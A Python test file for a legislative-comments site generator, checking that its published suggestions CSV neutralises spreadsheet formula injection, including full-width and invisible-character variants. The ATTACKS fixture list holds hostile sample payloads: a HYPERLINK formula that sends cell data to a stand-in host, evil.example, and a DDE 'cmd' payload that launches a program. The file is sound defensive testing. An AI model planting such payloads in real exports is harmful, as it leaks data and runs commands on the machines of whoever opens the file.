"""Formula injection in the CSV lawsite writes (data/suggestions.csv, the only
spreadsheet it writes): no text cell opens as a formula, whatever a notice,
its CSV or a tallied comment says, and every text comes back.

Before: only a first character of `=+-@`, tab or CR was neutralised, so
` =HYPERLINK(…)` (a space first), `＝HYPERLINK(…)` (full width, as Chinese
input methods type it), `\\u200b=…` and `\\n=…` went out as they were.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import build_site
from lawsite.cli import EXIT_OK, main
from lawsite.emit.cells import spreadsheet_csv

# The test's own list, not the module's: what a spreadsheet may strip, and what starts a formula.
LEADING = [" ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u2003", "\u200b", "\u200e", "\ufeff"]
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    " =1+1",
    "＝HYPERLINK(\"http://evil.example\")",
    "\u3000＝2+2",
    "\u200b=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "+86 123",
    "'=already quoted",
]


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _opens_as_formula(cell: str) -> bool:
    """What a spreadsheet that strips what it may would see first."""
    rest = cell
    while rest[:1] in LEADING:
        rest = rest[1:]
    return rest[:1] in TRIGGERS or cell[:1] in ("\t", "\r", "\n")


def _read_back(cell: str) -> str:
    """The rule documented in content/open-data.md: drop one leading `'`."""
    return cell[1:] if cell.startswith("'") else cell


texts = st.one_of(
    st.text(max_size=40),
    st.builds(lambda lead, trigger, rest: lead + trigger + rest, st.text(st.sampled_from(LEADING), max_size=4), st.sampled_from(TRIGGERS), st.text(max_size=20)),
    st.sampled_from(ATTACKS),
)


@settings(max_examples=400, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4), st.integers(min_value=-10**6, max_value=10**6))
def test_every_text_comes_back_and_none_opens_as_a_formula(row: list[str], number: int) -> None:
    header, written = _cells(spreadsheet_csv(["n", *(f"t{i}" for i in range(len(row)))], [[number, *row]]))
    assert header[0] == "n"
    assert written[0] == str(number)  # numbers stay numbers: no apostrophe, even when negative
    for text, cell in zip(row, written[1:]):
        assert cell in (text, "'" + text)  # unchanged, or neutralised
        assert _read_back(cell) == text
        assert not _opens_as_formula(cell), repr(cell)
        if _opens_as_formula(text):
            assert cell == "'" + text


def test_plain_texts_are_written_as_they_are() -> None:
    row = ["建议增加“诚实信用”。", "第3条第2款", "2026-05-01", "a-b", "邮箱 x@example.org", ""]
    assert _cells(spreadsheet_csv(["a"] * len(row), [row]))[1] == row


# --- from the inputs to the published CSV ---------------------------------------------

CONFIG = "site_name: t\ndocs_dir: content\ntheme: {name: material}\nplugins:\n  - lawsite\n"
DRAFT = "---\nkind: draft\nid: d1\ntitle: 测试条例（草案）\n---\n\n第一条　为了测试，制定本条例。\n\n第二条　本条例适用于测试。\n"


def _notice(notice_id: str, extra: str, concerns: str = "d1") -> str:
    return f"---\nkind: notice\nid: {notice_id}\ntitle: 测试说明\nconcerns: {concerns}\npublished: 2026-05-20\nreceived: 30\n{extra}---\n\n说明。\n"


def _csv_text(rows: list[list[object]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([["article", "from", "count", "text", "outcome", "reason"], *rows])
    return out.getvalue()


def test_hostile_suggestions_from_every_input_are_neutralised_in_the_published_csv(tmp_path: Path) -> None:
    config = tmp_path / "mkdocs.yml"
    config.write_text(CONFIG, encoding="utf-8")
    content = tmp_path / "content"
    (content / "drafts").mkdir(parents=True)
    (content / "notices").mkdir()
    (content / "index.md").write_text("# 首页\n", encoding="utf-8")
    for draft in ("d1", "d2", "d3"):  # one notice per draft
        (content / "drafts" / f"{draft}.md").write_text(DRAFT.replace("id: d1", f"id: {draft}"), encoding="utf-8")
    # 1. In the notice's front matter (YAML, where a tab or CR can be written as an escape).
    listed = "".join(f"- article: 第一条\n  from: {_yaml(attack)}\n  count: 1\n  text: {_yaml(attack)}\n  outcome: noted\n  reason: {_yaml(attack)}\n" for attack in [*ATTACKS, "\t=3+3", "\r=4+4"])
    (content / "notices" / "n1.md").write_text(_notice("n1", f"suggestions:\n{listed}"), encoding="utf-8")
    # 2. In the CSV a notice names.
    (content / "notices" / "n2.csv").write_text(_csv_text([["第二条", attack, 1, attack, "not-adopted", attack] for attack in ATTACKS]), encoding="utf-8")
    (content / "notices" / "n2.md").write_text(_notice("n2", "suggestions_file: n2.csv\n", concerns="d2"), encoding="utf-8")
    # 3. Comments tallied into a notice skeleton by `lawsite tally`.
    comments = tmp_path / "comments.csv"
    comments.write_text("article,from,text\n" + "".join(f"第二条,网民,\"{attack.replace(chr(34), chr(34) * 2)}\"\n" for attack in ATTACKS), encoding="utf-8")
    assert main(["-f", str(config), "tally", str(comments), "--concerns", "d3", "--id", "n3", "--out", str(content / "notices" / "n3.md")]) == EXIT_OK

    build_site(config, tmp_path / "site", 1_795_320_000)
    rows = _cells((tmp_path / "site" / "data" / "suggestions.csv").read_bytes())
    header, body = rows[0], rows[1:]
    text = header.index("text")
    by_notice = {notice: [row for row in body if row[0] == notice] for notice in ("n1", "n2", "n3")}
    assert [len(by_notice[n]) for n in ("n1", "n2", "n3")] == [len(ATTACKS) + 2, len(ATTACKS), len(ATTACKS)]
    assert not [cell for row in body for cell in row if _opens_as_formula(cell)]
    for notice in ("n1", "n2", "n3"):  # every text comes back, as the notice read it (stripped)
        assert {_read_back(row[text]) for row in by_notice[notice]} >= {attack.strip() for attack in ATTACKS}
    hyperlink = next(row[text] for row in by_notice["n1"] if "HYPERLINK(\"http://evil.example/?\"" in row[text])
    assert hyperlink == "'" + ATTACKS[0]
    assert {row[header.index("count")] for row in body} == {"1"}  # the number column stays a number


def _yaml(text: str) -> str:
    """`text` as a YAML double-quoted scalar."""
    import json

    return json.dumps(text, ensure_ascii=False)
